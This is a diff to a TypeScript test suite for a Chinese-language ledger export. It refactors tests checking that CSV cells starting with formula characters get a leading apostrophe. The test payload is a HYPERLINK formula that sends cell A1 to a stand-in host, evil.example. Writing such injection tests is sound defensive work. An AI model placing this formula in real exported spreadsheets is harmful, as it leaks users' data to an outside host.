@@ -152,22 +152,27 @@ describe('input hardening', () => {
   describe('CSV ledger cells a spreadsheet would run', () => {
     const LEADING = ['=', '+', '-', '@', '\t', '\r'];
 
+    /** Unit B's ledger as CSV, parsed into rows (header first). */
+    const ledgerCsvOfB = async (): Promise<string[][]> => {
+      const res = await t
+        .as(org.users.office.token)
+        .get(`/api/v1/reports/ledger.xlsx?format=csv&unitId=${org.units.b}`)
+        .buffer(true)
+        .parse((r, cb) => {
+          const chunks: Buffer[] = [];
+          r.on('data', (c: Buffer) => chunks.push(c));
+          r.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
+        });
+      expect(res.status).toBe(200);
+      return parseCsv((res.body as string).replace(/^\uFEFF/, ''));
+    };
+
     it.each(LEADING.map((c) => [JSON.stringify(c), c]))(
       'a cell starting with %s is written with a leading apostrophe',
       async (_n, lead) => {
         const title = `${lead}HYPERLINK("http://evil.example/?x="&A1)`;
         const [id] = await seedItems(t.dataSource, [{ title, unitId: org.units.b, deadline: '2026-08-31' }]);
-        const res = await t
-          .as(org.users.office.token)
-          .get(`/api/v1/reports/ledger.xlsx?format=csv&unitId=${org.units.b}`)
-          .buffer(true)
-          .parse((r, cb) => {
-            const chunks: Buffer[] = [];
-            r.on('data', (c: Buffer) => chunks.push(c));
-            r.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
-          });
-        expect(res.status).toBe(200);
-        const rows = parseCsv((res.body as string).replace(/^\uFEFF/, ''));
+        const rows = await ledgerCsvOfB();
         const header = rows[0];
         const row = rows.find((r) => r[header.indexOf('事项编号')] === id)!;
         expect(row[header.indexOf('整改事项')]).toBe(`'${title}`);
@@ -183,16 +188,7 @@ describe('input hardening', () => {
         t.dataSource,
         titles.map((title) => ({ title, unitId: org.units.b, deadline: '2026-08-31' })),
       );
-      const res = await t
-        .as(org.users.office.token)
-        .get(`/api/v1/reports/ledger.xlsx?format=csv&unitId=${org.units.b}`)
-        .buffer(true)
-        .parse((r, cb) => {
-          const chunks: Buffer[] = [];
-          r.on('data', (c: Buffer) => chunks.push(c));
-          r.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
-        });
-      const rows = parseCsv((res.body as string).replace(/^\uFEFF/, ''));
+      const rows = await ledgerCsvOfB();
       const header = rows[0];
       const titleOf = (id: string) => rows.find((r) => r[header.indexOf('事项编号')] === id)![header.indexOf('整改事项')];
       expect(ids.map(titleOf)).toEqual(['普通事项', "''=1+1", '1-1 问题', '负责人：张三']);
